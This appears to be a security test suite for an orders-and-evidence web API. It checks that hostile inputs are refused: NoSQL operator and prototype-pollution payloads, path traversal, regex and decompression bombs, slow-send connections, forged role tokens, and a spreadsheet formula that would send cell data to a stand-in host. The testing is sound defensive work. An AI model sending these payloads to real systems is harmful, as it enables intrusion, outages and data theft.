import { randomUUID } from 'node:crypto';
import { type AddressInfo, connect } from 'node:net';
import { text as textOf } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import * as fc from 'fast-check';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCursor } from '../../src/api/list.ts';
import { patience, patientServer } from '../../src/api/server.ts';
import { signToken } from '../../src/cli/tokens.ts';
import { apiHere } from '../api/apiHere.ts';
import { type Api, applicationFor, authSecret, expectStatus, type Person } from '../api/harness.ts';
import { seed } from '../attack/seed.ts';

let api: Api;
let consumer: Person;
let ids: Record<string, string[]>;
beforeAll(async () => {
  api = await apiHere();
  await api.startWorker();
  ids = await seed(api);
  consumer = api.as('consumer', 'c-1');
});
afterAll(() => api.close());
const idOf = (kind: string) => ids[kind]?.[0] ?? '';

describe('queries', () => {
  it.each([
    'status[$ne]=x',
    'status=applied&status[$ne]=x',
    'consumerId[$gt]=',
    'q=%00',
    'q[]=a',
    'limit=1e400',
    'limit=-0',
    '__proto__[role]=admin',
    'cursor=WyJjcmVhdGVkQXQiLDFlOTksIiJd.',
  ])('%s is refused by field, and no pattern or operator reaches the database', async (query) => {
    expect(await consumer.get(`/v1/orders?${query}`)).toMatchObject({
      status: 422,
      body: { code: 'validation_failed' },
    });
  });

  it('a pattern that would never end is searched for as it is written', async () => {
    expect(await consumer.get(`/v1/orders?q=${encodeURIComponent('(a+)+$'.repeat(30))}`)).toMatchObject({
      status: 200,
      body: { items: [] },
    });
  });
});

describe('bodies', () => {
  it.each([
    ['an operator for an id', { orderId: { $gt: '' } }],
    ['a field of the server’s', { consumerId: 'c-2' }],
    ['a status', { status: 'closed' }],
    ['a constructor', { constructor: { prototype: { role: 'admin' } } }],
  ])('%s: 422', async (_, fields) => {
    expect(await consumer.post('/v1/cases', applicationFor(idOf('orders'), fields))).toMatchObject({ status: 422 });
  });

  it('a quarter of a million brackets: refused, and the process lives', async () => {
    const raw = `${'['.repeat(250_000)}${']'.repeat(250_000)}`;
    expect((await consumer.post('/v1/cases', undefined, { raw })).status).toBeLessThan(500);
    expect((await api.request('GET', '/healthz')).status).toBe(200);
  });
});

describe('paths and headers', () => {
  it.each([
    '/v1/orders/%00',
    '/v1/orders/%2e%2e%2fadmin',
    '/v1/orders/..%2f..%2fhealthz',
    '/v1//orders',
    '/v1/orders/x.',
  ])('%s: 404', async (path) => {
    expect((await consumer.get(path)).status).toBe(404);
  });
  it('a broken escape: 400', async () => expect((await consumer.get('/v1/orders/%E0%A4%A')).status).toBe(400));
  it('X-HTTP-Method-Override makes no other method of a request', async () => {
    const headers = { 'x-http-method-override': 'POST', 'idempotency-key': randomUUID() };
    expect((await consumer.get('/v1/orders', headers)).status).toBe(200);
  });
  it('no other origin may read, and nothing is kept for others', async () => {
    const { headers } = await consumer.get('/v1/orders', { origin: 'https://evil.example.com' });
    expect(headers.get('access-control-allow-origin')).toBeNull();
    expect(headers.get('cache-control')).toBe('private, no-cache');
  });
});

it.each([[['admin']], [{ $ne: '' }], ['Admin']])('a token whose role is %j: 401', async (role) => {
  const key = new TextEncoder().encode(authSecret);
  const token = await new SignJWT({ role }).setProtectedHeader({ alg: 'HS256' }).setSubject('x-1').sign(key);
  expect((await api.request('GET', '/v1/policies', { authorization: `Bearer ${token}` })).status).toBe(401);
});

it('another’s evidence can’t be attached; another’s key opens nothing', async () => {
  const stranger = api.as('merchant', 'm-1');
  const message = (evidenceId: string) => ({ text: '见附件', evidenceIds: [evidenceId] });
  const path = `/v1/orders/${idOf('orders')}/messages`;
  const told = async (evidenceId: string) => {
    const { status, body } = await stranger.post(path, message(evidenceId));
    const { requestId: _, ...rest } = body;
    return [status, JSON.parse(JSON.stringify(rest).replaceAll(evidenceId, '<id>')) as unknown];
  };
  const ofAnother = await told(idOf('evidence'));
  expect(ofAnother).toMatchObject([422, { code: 'evidence_unknown' }]);
  expect(await told(randomUUID())).toEqual(ofAnother);

  const key = randomUUID();
  const mine = await consumer.post(path, { text: '你好' }, { key });
  const theirs = await stranger.post(path, { text: '您好' }, { key });
  expect([mine.status, theirs.status]).toEqual([201, 201]);
  expect(theirs.body.id).not.toBe(mine.body.id);
});

describe('slow, large and broken on purpose', () => {
  it('who sends too slowly is cut off: 10 s for headers, 10 min in all', async () => {
    expect(patience).toMatchObject({ headersTimeout: 10_000, requestTimeout: 600_000 });
    const bounds = { headersTimeout: 200, requestTimeout: 400, connectionsCheckingInterval: 50 };
    const server = patientServer((request) => void request.resume(), bounds);
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const { port } = server.address() as AddressInfo;
    const begun = [
      'POST /v1/orders HTTP/1.1\r\nHost: x\r\n',
      'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{',
    ];
    for (const part of begun) {
      const socket = connect(port, '127.0.0.1');
      socket.write(part);
      expect(await textOf(socket)).toMatch(/^HTTP\/1.1 408 /);
    }
    server.close();
  });

  it('a body that unpacks to fifty megabytes: 413', async () => {
    const bomb = gzipSync(JSON.stringify({ description: 'x'.repeat(50_000_000) }));
    expect(bomb.length).toBeLessThan(100_000);
    const response = await fetch(`${api.url}/v1/cases`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${await signToken({ role: 'consumer', sub: 'c-1' }, authSecret)}`,
        'content-type': 'application/json',
        'content-encoding': 'gzip',
        'idempotency-key': randomUUID(),
      },
      body: bomb,
    });
    expect([response.status, ((await response.json()) as { code: string }).code]).toEqual([413, 'body_too_large']);
  });

  it('an image that says it is four billion pixels is kept as it came, and never unpacked', async () => {
    const png = Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489000007d049444154',
      'hex',
    );
    png.writeUInt32BE(65_535, 16);
    png.writeUInt32BE(65_535, 20);
    const form = new FormData();
    form.set('kind', 'other');
    form.set('file', new Blob([png], { type: 'image/png' }), 'bomb.png');
    const before = process.memoryUsage().rss;
    const { id } = (await expectStatus(201, consumer.upload('/v1/evidence', form))).body;
    const content = await fetch(`${api.url}/v1/evidence/${id}/content`, {
      headers: { authorization: `Bearer ${await signToken({ role: 'consumer', sub: 'c-1' }, authSecret)}` },
    });
    expect(Buffer.from(await content.arrayBuffer()).equals(png)).toBe(true);
    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000);
  });

  it('a fault that nobody foresaw is told by its request id alone', async () => {
    const broken = await apiHere({ overrides: { evidence: {} as never } });
    const { status, body } = await broken.as('consumer', 'c-1').get(`/v1/evidence/${randomUUID()}`);
    expect([status, body.code]).toEqual([500, 'internal_error']);
    expect(JSON.stringify(body)).not.toMatch(/TypeError|is not a function|\.ts|node_modules/);
    expect(body['requestId']).toEqual(expect.any(String));
    await broken.close();
  });

  it('a formula in free text is data: answered as it was written, as JSON that no browser takes for anything else', async () => {
    const text = '=HYPERLINK("http://example.com/?"&A1,"<script>alert(1)</script>")';
    const path = `/v1/orders/${idOf('orders')}/messages`;
    await expectStatus(201, consumer.post(path, { text }));
    const { headers, body } = await api.as('merchant', 'm-1').get(path);
    expect(body.items.map((item) => item['text'])).toContain(text);
    expect(headers.get('content-type')).toContain('application/json');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  });
});

it('a cursor is one of ours or refused, whatever it is', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.json().map((json) => Buffer.from(json).toString('base64url')),
      ),
      (text) => {
        expect(() => readCursor('createdAt', text)).toThrow('cursor: is not the nextCursor of such a list');
      },
    ),
  );
});
